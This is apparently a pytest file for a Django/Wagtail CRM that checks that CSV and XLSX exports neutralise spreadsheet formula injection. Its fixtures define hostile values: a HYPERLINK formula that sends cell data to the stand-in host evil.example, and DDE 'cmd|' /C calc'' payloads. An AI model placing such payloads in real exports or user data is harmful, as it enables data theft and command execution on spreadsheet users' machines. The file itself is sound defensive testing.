"""Every CSV the project serves keeps a visitor's formula as text (OWASP "CSV injection").

Each CSV is fetched over HTTP with a hostile name, company or UTM value stored the way a visitor or a
WordPress site would leave it; no cell of the file may start with a character a spreadsheet reads as
the start of a formula.
"""

import csv
import datetime
import io
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.spreadsheets import FORMULA_TRIGGERS, csv_writer, neutralise_formula
from crm.intake import LeadData, create_lead
from crm.models import Lead, Source
from crm.services import assign
from forms_builder.models import LeadFormSubmission
from tests.forms_support import make_form_page

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PLUS = "+54 11 cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(response):
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def assert_formula_safe(all_cells, *expected):
    live = [cell for cell in all_cells if cell.startswith(FORMULA_TRIGGERS)]
    assert live == []
    for value in expected:
        assert "'" + value in all_cells


@pytest.fixture
def hostile_leads(brands, admin_user, employee):
    employee.first_name, employee.last_name = AT, "Vendedor"
    employee.save()
    phone = Source.objects.get(key="phone")
    lead = create_lead(
        LeadData(
            brand=brands["intralog"],
            contact_name=HYPERLINK,
            company=PLUS,
            email="evil@example.com",
            source=phone,
            utm_source=HYPERLINK,
            utm_medium=PLUS,
            utm_campaign=MINUS,
        ),
        actor=admin_user,
    )
    lead = assign(lead, employee, actor=admin_user)
    Lead.objects.filter(pk=lead.pk).update(last_activity_at=timezone.now() - datetime.timedelta(days=60))
    return lead


def dashboard_csv(client, page, table):
    today = timezone.localdate()
    query = f"period=custom&start={today - datetime.timedelta(days=7)}&end={today}&export={table}"
    return cells(client.get(f"{reverse(f'dashboards:{page}')}?{query}"))


@pytest.mark.parametrize(
    "page, table, expected",
    [
        ("overview", "latest", [HYPERLINK]),
        ("pipeline", "stale", [HYPERLINK]),
        ("team", "team", [f"{AT} Vendedor"]),
        ("campaigns", "utm", [HYPERLINK, PLUS, MINUS]),
    ],
)
def test_dashboard_csvs_neutralise_formulas(page, table, expected, hostile_leads, client_for, admin_user):
    all_cells = dashboard_csv(client_for(admin_user), page, table)
    assert_formula_safe(all_cells, *expected)


def test_dashboard_csv_keeps_negative_figures_as_numbers():
    from dashboards.tables import DECIMAL, PERCENT, Column, DataTable, csv_response

    table = DataTable("t", "T", [Column("name", "Name", "text"), Column("change", "Change", PERCENT)], [])
    table.rows = [{"name": MINUS, "change": -0.25}, {"name": "x", "change": None}]
    rows = list(csv.reader(io.StringIO(csv_response(table).content.decode())))
    assert rows[1] == ["'" + MINUS, "-25.0"]
    table.columns[1].kind = DECIMAL
    assert list(csv.reader(io.StringIO(csv_response(table).content.decode())))[1][1] == "-0.25"


def test_wagtail_form_submission_csv_neutralises_formulas(brands, admin_user, client_for):
    page = make_form_page(brands["intralog"])
    LeadFormSubmission.objects.create(
        page=page,
        form_data={"nombre_y_apellido": HYPERLINK, "razon_social": PLUS, "mensaje": MINUS, "email": AT},
    )
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    all_cells = cells(client_for(admin_user).get(url + "?export=csv"))
    assert_formula_safe(all_cells, HYPERLINK, PLUS, MINUS, AT)


def test_site_history_csv_neutralises_formulas(hostile_leads, admin_user, client_for):
    client = client_for(admin_user)
    url = reverse("wagtailadmin_reports:site_history")
    all_cells = cells(client.get(url + "?export=csv"))
    assert any(HYPERLINK in cell for cell in all_cells)
    assert_formula_safe(all_cells)


def test_site_history_xlsx_keeps_formulas_as_text(hostile_leads, admin_user, client_for):
    response = client_for(admin_user).get(reverse("wagtailadmin_reports:site_history") + "?export=xlsx")
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(HYPERLINK in cell.value for cell in texts)
    assert all(cell.data_type == "s" for cell in texts)


def test_form_report_csv_neutralises_formulas(brands, admin_user, client_for):
    from forms_builder.models import SubmissionBehaviour

    page = make_form_page(brands["intralog"])
    submission = LeadFormSubmission.objects.create(page=page, form_data={})
    SubmissionBehaviour.objects.create(
        submission=submission,
        page=page,
        device="desktop",
        utm_source=HYPERLINK,
        utm_medium=PLUS,
        utm_campaign=MINUS,
    )
    page.title = AT
    page.save_revision().publish()
    url = reverse("forms_builder_report", args=[page.pk])
    all_cells = cells(client_for(admin_user).get(url + "?export=csv"))
    assert_formula_safe(all_cells, HYPERLINK, PLUS, MINUS, AT)


def test_the_lead_export_uses_the_same_rule(hostile_leads, admin_user, client_for):
    all_cells = cells(client_for(admin_user).get(reverse("crm_leads:list") + "?export=csv"))
    assert_formula_safe(all_cells, HYPERLINK, PLUS)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_csv_writer_neutralises_text_cells_only():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([[HYPERLINK, -3, 1.5, None]])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + HYPERLINK, "-3", "1.5", ""]
